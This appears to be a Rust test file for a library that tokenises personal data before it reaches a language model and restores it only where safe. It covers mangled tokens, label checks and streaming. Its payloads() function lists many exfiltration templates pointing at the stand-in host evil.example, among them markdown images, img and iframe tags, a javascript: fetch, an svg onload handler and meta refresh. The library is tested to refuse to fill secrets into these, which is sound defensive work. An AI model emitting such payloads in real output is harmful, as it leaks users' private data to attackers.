//! Restore for delivery: what models do to tokens, where they may not be restored, and streams that yield the whole.

#[path = "support/issued.rs"]
mod issued;
#[path = "support/manglings.rs"]
mod manglings;

use issued::{engine, token};
use manglings::{AROUND, Dice, SAFE};
use parda::stream::{RestoreReader, RestoreWriter};
use parda::{
    Delivery, Engine, Key, MemoryVault, OutputPolicy, Reason, RedactStream, RestoreStream, Session,
    Sink,
};

#[test]
fn what_reads_as_a_token_however_spelled_is_data_in_untrusted_text() {
    let engine = engine();
    let session = engine.session("conversation").expect("a scope");
    let reader = Delivery::to(Sink::Reader);
    let token = token(&session, "asha@example.com");
    let (label, id) = token.split_once('_').expect("a token");
    for (name, mutate) in SAFE {
        let text = format!("as you said: {} - thanks", mutate(label, id));
        let redacted = session
            .redact(&text)
            .expect("redacted")
            .into_text()
            .into_owned();
        assert!(redacted.contains("REF_"), "{name}: {redacted:?}");
        let delivered = session.deliver(&redacted, &reader).expect("delivered");
        assert_eq!(delivered.expose(), text, "{name}");
        let back = session.restore(&redacted).expect("restored");
        assert_eq!(back.expose(), text, "{name}");
    }
    let elsewhere = engine.session("elsewhere").expect("a scope");
    let quiet = format!("email {id}");
    assert_eq!(elsewhere.redact(&quiet).expect("redacted").text(), quiet);
}

#[test]
fn ones_own_text_is_filled_in_everywhere_and_a_models_is_not() {
    let engine = engine();
    let session = engine.session("conversation").expect("a scope");
    let reader = Delivery::to(Sink::Reader);
    let own = "<a title=\"asha@example.com\">write</a>";
    let redacted = session
        .redact(own)
        .expect("redacted")
        .into_text()
        .into_owned();
    assert!(!redacted.contains("asha"));
    let restored = session.restore(&redacted).expect("restored");
    assert_eq!(restored.expose(), own, "the exact inverse");
    let delivered = session.deliver(&redacted, &reader).expect("delivered");
    assert!(
        !delivered.expose().contains("asha"),
        "the model may have put it there"
    );
    let granted = session
        .deliver(&redacted, &reader.clone().grant_urls())
        .expect("delivered");
    assert_eq!(granted.expose(), own);
}

#[test]
fn a_label_of_a_services_own_entity_is_told_from_another() {
    let badge = parda::Entity::custom("STAFF_BADGE").expect("a label");
    let pattern = parda::PatternRecogniser::new(badge, "badge-[0-9]{4}").expect("a pattern");
    let scanner = parda::Scanner::builder()
        .pattern(pattern)
        .build()
        .expect("a scanner");
    let engine = Engine::builder()
        .scanner(scanner)
        .key(Key::generate().expect("randomness"))
        .vault(MemoryVault::new())
        .build()
        .expect("an engine");
    let session = engine.session("conversation").expect("a scope");
    let reader = Delivery::to(Sink::Reader);
    let badge = token(&session, "badge-4711");
    let mail = token(&session, "asha@example.com");
    let swapped = badge.replace("STAFFBAD_", "EMAIL_");
    let other = mail.replace("EMAIL_", "STAFFBAD_");
    for text in [swapped, other] {
        let restored = session.deliver(&text, &reader).expect("delivered");
        assert_eq!(restored.expose(), text);
        assert_eq!(restored.unresolved()[0].reason(), Reason::LabelMismatch);
    }
    let foreign = badge.replace("STAFFBAD_", "ausweis_");
    let restored = session.deliver(&foreign, &reader).expect("delivered");
    assert_eq!(restored.expose(), "badge-4711");
}

#[test]
fn a_label_of_another_entity_is_left_and_reported() {
    let engine = engine();
    let session = engine.session("conversation").expect("a scope");
    let token = token(&session, "asha@example.com");
    let text = token.replace("EMAIL_", "CARD_");
    let reader = Delivery::to(Sink::Reader);
    let restored = session.deliver(&text, &reader).expect("delivered");
    assert_eq!(restored.expose(), text);
    assert_eq!(restored.unresolved()[0].reason(), Reason::LabelMismatch);
}

/// Ways to have a renderer, a client or a person send what stands at `@` to the owner of a host; `\u{1}` is an `@`.
fn payloads() -> Vec<String> {
    let mut all = Vec::new();
    let targets = [
        "https://evil.example/?q=@",
        "https://evil.example/@",
        "https://@.evil.example/",
        "https://evil.example/#@",
        "https://evil.example/a?x=1&y=@&z=2",
        "http://evil.example/@.png",
        "//evil.example/?q=@",
        "HTTPS://EVIL.EXAMPLE/?q=@",
        "https:evil.example/?q=@",
        "ftp://evil.example/@",
        "wss://evil.example/@",
        "https://user:@\u{1}evil.example/",
        "data:text/html,<img src=//evil.example/@>",
        "https://evil.example/?q=%22@",
        "https:/\\evil.example/@",
        "javascript:fetch('//evil.example/@')",
        "https://evil.example/?q=x,@",
    ];
    let frames = [
        "![](@)",
        "![a picture](@)",
        "[click here](@)",
        "[a](<@>)",
        "[a](@ \"title\")",
        "![a][b]\n\n[b]: @",
        "[b]: <@>",
        "<@>",
        "@",
        "see @ for more",
        "<img src=\"@\">",
        "<img src='@'>",
        "<img src=@>",
        "<a href=\"@\">here</a>",
        "<div style=\"background:url(@)\">",
        "<iframe src=\"@\"></iframe>",
        "<link rel=prefetch href=\"@\">",
        "<style>\u{1}import url(@)</style>",
    ];
    for frame in frames {
        for target in targets {
            all.push(frame.replacen('@', target, 1));
        }
    }
    all.extend(
        [
            "![](@)",
            "![]( @ )",
            "![](\n@)",
            "![](x?@)",
            "![](/relative/@)",
            "[a](mailto:eve\u{1}evil.example?body=@)",
            "[a](mailto:@?cc=eve\u{1}evil.example)",
            "www.evil.example/@",
            "evil.example/?q=@",
            "evil.example/@",
            "@.evil.example",
            "[x]: evil.example/@",
            "[url]//evil.example/@[/url]",
            "[img]https://evil.example/@[/img]",
            "\\url{https://evil.example/@}",
            "\\includegraphics{https://evil.example/@}",
            "![[https://evil.example/@]]",
            "<https://evil.example/@|report>",
            "<img alt=\"x\" src=\"//evil.example/?a=>@\">",
            "<img\nsrc=//evil.example/@\n>",
            "<svg/onload=fetch('//evil.example/'+'@')>",
            "<input value=\"@\" autofocus>",
            "<form action=//evil.example><input name=a value='@'>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example/@\">",
            "<video poster=//evil.example/@>",
            "<x style=background:url(//evil.example/@)>",
            "![a](https://evil.example/\\\n?@)",
            "![a](https&colon;&sol;&sol;evil.example/@)",
            "[b]: https&colon;&sol;&sol;evil&period;example&sol;@",
            "![a](https://evil.example/?q=\u{200b}@)",
        ]
        .map(str::to_owned),
    );
    all
}

#[test]
fn exfiltration_is_not_filled_in() {
    let engine = engine();
    let session = engine.session("conversation").expect("a scope");
    let value = "asha.rao@example.com";
    let token = token(&session, value);
    let spellings = [
        token.clone(),
        token.to_lowercase(),
        token.replace('_', "\\_"),
        token.replace('_', "%5F"),
        token.replace('_', "&#95;"),
    ];
    let payloads = payloads();
    assert!(payloads.len() >= 200, "{}", payloads.len());
    for payload in payloads {
        for spelling in &spellings {
            let text = payload.replace('@', spelling).replace('\u{1}', "@");
            for sink in [
                Sink::Reader,
                Sink::Markup,
                Sink::Log,
                Sink::Url,
                Sink::Tool("fetch".into()),
            ] {
                let restored = session
                    .deliver(&text, &Delivery::to(sink.clone()))
                    .expect("delivered");
                assert_eq!(restored.expose(), text, "{sink:?}");
                assert!(!restored.unresolved().is_empty(), "reported: {text}");
            }
        }
    }
}

#[test]
fn what_is_no_exfiltration_is_restored() {
    let engine = engine();
    let session = engine.session("conversation").expect("a scope");
    let value = "asha.rao@example.com";
    let token = token(&session, value);
    let reader = Delivery::to(Sink::Reader);
    for frame in [
        "@",
        "<@>",
        "Write to @.",
        "see [@](mailto:@) today",
        "https://example.com then @",
        "[a](https://example.com) and @",
        "| name | @ |",
        "if a < b then @",
        "e.g. @, i.e. @",
        "[x](y) @",
        "<p>@</p>",
        "<b class=\"x\">@</b>",
        "(@)",
        "Contact:@",
        "and/or @",
    ] {
        let text = frame.replace('@', &token);
        let restored = session.deliver(&text, &reader).expect("delivered");
        assert_eq!(restored.expose(), frame.replace('@', value));
    }
    let tool = Delivery::to(Sink::Tool("mail".into())).grant_tool("mail");
    let text = format!("{{\"a\":\"https://example.com/{token}\",\"to\":\"{token}\"}}");
    let restored = session.deliver(&text, &tool).expect("delivered");
    let expected = format!("{{\"a\":\"https://example.com/{token}\",\"to\":\"{value}\"}}");
    assert_eq!(restored.expose(), expected);
}

fn streamed(session: &Session<'_, MemoryVault>, pieces: &[&str], delivery: &Delivery) -> String {
    let mut stream = RestoreStream::new(session, delivery).expect("a stream");
    let mut out = String::new();
    for piece in pieces {
        stream.push(piece, &mut out).expect("pushed");
        assert!(stream.held() <= 160, "{} held", stream.held());
    }
    stream.finish(&mut out).expect("finished");
    out
}

#[test]
fn a_stream_yields_what_the_whole_yields() {
    let engine = engine();
    let session = engine.session("conversation").expect("a scope");
    let tokens: Vec<String> = (0..4)
        .map(|n| token(&session, &format!("person{n}@example.com")))
        .collect();
    let mut dice = Dice(3);
    let mut texts: Vec<String> = payloads()
        .iter()
        .map(|p| p.replace('@', &tokens[0]).replace('\u{1}', "@"))
        .collect();
    texts.push(
        session
            .redact("[asha@example.com]x9asha@example.com_ 4111 1111 1111 1111")
            .expect("redacted")
            .text()
            .to_owned(),
    );
    for _ in 0..200 {
        let mut text = String::new();
        for _ in 0..dice.roll(8) {
            let token = &tokens[dice.roll(tokens.len())];
            let (label, id) = token.split_once('_').expect("a token");
            let (_, mutate) = SAFE[dice.roll(SAFE.len())];
            let (before, after) = AROUND[dice.roll(AROUND.len())];
            text.push_str(before);
            text.push_str(&mutate(label, id));
            text.push_str(after);
            text.push_str([" ", "\n", "", " the connected ", "_", "[", "ईमेल "][dice.roll(7)]);
        }
        texts.push(text);
    }
    for text in &texts {
        for delivery in [
            Delivery::to(Sink::Reader),
            Delivery::to(Sink::Tool("a".into())).grant_tool("a"),
        ] {
            let whole = session
                .deliver(text, &delivery)
                .expect("delivered")
                .expose()
                .to_owned();
            let ends: Vec<usize> = (0..=text.len())
                .filter(|at| text.is_char_boundary(*at))
                .collect();
            for &cut in &ends {
                let pieces = [&text[..cut], &text[cut..]];
                assert_eq!(
                    streamed(&session, &pieces, &delivery),
                    whole,
                    "{text:?} at {cut}"
                );
            }
            let single: Vec<&str> = ends.windows(2).map(|w| &text[w[0]..w[1]]).collect();
            assert_eq!(
                streamed(&session, &single, &delivery),
                whole,
                "{text:?} by characters"
            );
            for _ in 0..5 {
                let mut pieces = Vec::new();
                let mut from = 0;
                while from + 1 < ends.len() {
                    let to = (from + 1 + dice.roll(9)).min(ends.len() - 1);
                    pieces.push(&text[ends[from]..ends[to]]);
                    from = to;
                }
                assert_eq!(
                    streamed(&session, &pieces, &delivery),
                    whole,
                    "{text:?} as {pieces:?}"
                );
            }
        }
    }
}

/// Brackets that part a token from its neighbours go with it, and no other does.
#[test]
fn a_token_between_brackets_of_ours_is_restored_without_them() {
    let engine = engine();
    let session = engine.session("conversation").expect("a scope");
    let reader = Delivery::to(Sink::Reader);
    for own in [
        "[asha@example.com]x9asha@example.com_ 4111 1111 1111 1111",
        "asha@example.com_[asha@example.com] and so on",
        "[[asha@example.com_]]",
    ] {
        let redacted = session.redact(own).expect("redacted");
        let redacted = redacted.into_text().into_owned();
        assert!(redacted.contains("[EMAIL_"), "{redacted}");
        let restored = session.restore(&redacted).expect("restored");
        assert_eq!(restored.expose(), own);
        let delivered = session.deliver(&redacted, &reader).expect("delivered");
        assert_eq!(delivered.expose(), own);
    }
    // A bracket that the model lost is not made good, and no other is taken for it.
    let fenced = session.redact("asha@example.com_").expect("redacted");
    let token = fenced.text().trim_matches(['[', ']', '_']);
    for (text, wanted) in [
        (format!("[{token}]"), "asha@example.com"),
        (format!("[{token}"), "[asha@example.com"),
        (format!("{token}]"), "asha@example.com]"),
        (format!("({token}]"), "(asha@example.com]"),
        (format!("[{token})"), "[asha@example.com)"),
        (format!("[[{token}]]"), "[asha@example.com]"),
        (
            format!("[{token}][{token}]"),
            "asha@example.comasha@example.com",
        ),
        (
            format!("{token} [{token}"),
            "asha@example.com [asha@example.com",
        ),
    ] {
        let restored = session.restore(&text).expect("restored");
        assert_eq!(restored.expose(), wanted, "{text}");
        let delivered = session.deliver(&text, &reader).expect("delivered");
        assert_eq!(delivered.expose(), wanted, "{text}");
    }
}

#[test]
fn a_long_stream_gives_what_the_whole_gives_and_the_places_of_what_stays() {
    let engine = engine();
    let session = engine.session("conversation").expect("a scope");
    let elsewhere = engine.session("elsewhere").expect("a scope");
    let reader = Delivery::to(Sink::Reader);
    let mut dice = Dice(9);
    let mut text = String::new();
    for n in 0..400 {
        let scope = [&session, &elsewhere][dice.roll(4) / 3];
        text += &token(scope, &format!("person{n}@example.com"));
        text += [
            " and ",
            ", \u{1f600}\u{915} ",
            ". The connected words: ",
            " [",
            "\n",
        ][dice.roll(5)];
        text += &"क ab, ".repeat(dice.roll(30));
    }
    let whole = session.deliver(&text, &reader).expect("delivered");
    assert!(whole.restored() > 200 && whole.unresolved().len() > 50 && text.len() > 40_000);
    for step in [1, 4, 16, 100, 4_096, 9_000] {
        let mut stream = RestoreStream::new(&session, &reader).expect("a stream");
        let mut out = String::new();
        let mut rest = text.as_str();
        while !rest.is_empty() {
            let (piece, next) = rest.split_at(rest.ceil_char_boundary(step));
            stream.push(piece, &mut out).expect("pushed");
            rest = next;
        }
        stream.end(&mut out).expect("ended");
        assert!(out == whole.expose(), "by {step}");
        assert_eq!(stream.unresolved(), whole.unresolved(), "by {step}");
        assert_eq!(stream.restored(), whole.restored());
    }
}

#[test]
fn a_word_before_letters_like_an_id_is_no_label_of_them() {
    let engine = engine();
    let session = engine.session("conversation").expect("a scope");
    let reader = Delivery::to(Sink::Reader);
    let token = token(&session, "asha@example.com");
    let (_, id) = token.split_once('_').expect("a token");
    for text in [
        format!("write {id} now"),
        format!("write-{id}"),
        format!("card {id}"),
    ] {
        let delivered = session.deliver(&text, &reader).expect("delivered");
        assert_eq!(delivered.expose(), text);
        assert_eq!(delivered.unresolved(), []);
    }
    for (text, restored) in [
        (format!("email {id} now"), "asha@example.com now"),
        (format!("write _{id} now"), "write asha@example.com now"),
        (format!("correo_{id} now"), "asha@example.com now"),
    ] {
        let delivered = session.deliver(&text, &reader).expect("delivered");
        assert_eq!(delivered.expose(), restored);
    }
}

#[test]
fn text_that_can_be_no_token_does_not_wait() {
    let engine = engine();
    let session = engine.session("conversation").expect("a scope");
    let reader = Delivery::to(Sink::Reader);
    let mut stream = RestoreStream::new(&session, &reader).expect("a stream");
    let mut out = String::new();
    for piece in
        "The quick brown fox, 1234567890, jumps over everything there was. ".split_inclusive(' ')
    {
        stream.push(piece, &mut out).expect("pushed");
        assert!(
            stream.held() <= 24,
            "{:?} waits behind {out:?}",
            stream.held()
        );
    }
    stream.push("to EMAIL_qk", &mut out).expect("pushed");
    assert_eq!(stream.held(), "EMAIL_qk".len());
}

#[test]
fn what_the_model_brought_in_is_guarded_and_our_tokens_are_not() {
    let engine = engine();
    let session = engine.session("conversation").expect("a scope");
    let token = token(&session, "asha@example.com");
    let quiet = format!("Write to {token} today.");
    let leak = format!("{quiet} Or to ravi@example.com.");
    for output in [
        OutputPolicy::Report,
        OutputPolicy::Mask,
        OutputPolicy::Block,
    ] {
        let guarded = session.guard(&quiet, output).expect("nothing is found");
        assert_eq!(guarded.text(), quiet);
    }
    let guarded = session.guard(&leak, OutputPolicy::Report).expect("guarded");
    assert_eq!(guarded.text(), leak);
    assert_eq!(guarded.findings()[0].expose(), "ravi@example.com");
    let guarded = session.guard(&leak, OutputPolicy::Mask).expect("guarded");
    assert!(!guarded.text().contains("ravi@example.com"));
    assert!(guarded.text().contains(&token));
    let refused = session
        .guard(&leak, OutputPolicy::Block)
        .expect_err("blocked");
    assert_eq!(refused.blocked(), Some(parda::Entity::EMAIL));
}

#[test]
fn a_redact_stream_depends_on_the_text_alone_and_never_takes_back() {
    let engine = engine();
    let session = engine.session("conversation").expect("a scope");
    let armour =
        "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nAAAA\n-----END PGP PUBLIC KEY BLOCK-----\n";
    let text = format!(
        "Dear asha@example.com,\n\ncard 4111 1111 1111 1111\r\n\r\n{armour}\nravi@example.com"
    );
    let stream = |pieces: &[&str]| {
        let mut stream = RedactStream::new(&session);
        let mut out = String::new();
        for piece in pieces {
            let before = out.clone();
            stream.push(piece, &mut out).expect("pushed");
            assert!(out.starts_with(&before));
        }
        stream.finish(&mut out).expect("finished");
        out
    };
    let whole = stream(&[&text]);
    assert!(!whole.contains("@example.com") && !whole.contains("4111 1111"));
    assert_eq!(session.restore(&whole).expect("restored").expose(), text);
    for cut in 0..=text.len() {
        assert_eq!(stream(&[&text[..cut], &text[cut..]]), whole);
    }
    let single: Vec<&str> = text.split("").collect();
    assert_eq!(stream(&single), whole);
}

#[test]
fn readers_and_writers_restore_on_the_way() {
    use std::io::{Read, Write};
    let engine = engine();
    let session = engine.session("conversation").expect("a scope");
    let token = token(&session, "asha@example.com");
    let text = format!("ईमेल: {token}; {token}।");
    let expected = text.replace(&token, "asha@example.com");
    let reader = Delivery::to(Sink::Reader);
    let mut out = String::new();
    RestoreReader::new(
        text.as_bytes(),
        RestoreStream::new(&session, &reader).expect("a stream"),
    )
    .read_to_string(&mut out)
    .expect("read");
    assert_eq!(out, expected);
    let mut writer = RestoreWriter::new(
        Vec::new(),
        RestoreStream::new(&session, &reader).expect("a stream"),
    );
    for byte in text.as_bytes() {
        writer.write_all(&[*byte]).expect("written");
    }
    assert_eq!(writer.finish().expect("finished"), expected.as_bytes());
    let cut = RestoreReader::new(
        &text.as_bytes()[..1],
        RestoreStream::new(&session, &reader).expect("a stream"),
    )
    .read_to_string(&mut out);
    assert!(cut.is_err(), "half a character");
}

#[test]
fn a_stream_waits_for_a_name_of_hosts_behind_a_token() {
    let engine = engine();
    let session = engine.session("hosts").expect("a scope");
    let token = session.redact("asha@example.com").expect("redacted");
    let fenced = session.redact("asha@example.com_").expect("redacted");
    let fenced = fenced.text().trim_end_matches('_');
    assert!(fenced.starts_with('[') && fenced.ends_with(']'), "{fenced}");
    let delivery = Delivery::to(Sink::Reader);
    for text in [
        format!("see {fenced}.example.org"),
        format!("see {fenced}. Then"),
        format!("see {}.example.org", token.text()),
        format!("see [{}].example.org", token.text()),
        format!("see [{}]. Then", token.text()),
    ] {
        let whole = session.deliver(&text, &delivery).expect("delivered");
        let mut stream = RestoreStream::new(&session, &delivery).expect("a stream");
        let mut out = String::new();
        for c in text.chars() {
            stream
                .push(c.encode_utf8(&mut [0; 4]), &mut out)
                .expect("pushed");
        }
        stream.finish(&mut out).expect("finished");
        assert_eq!(out, whole.expose(), "{text}");
    }
}
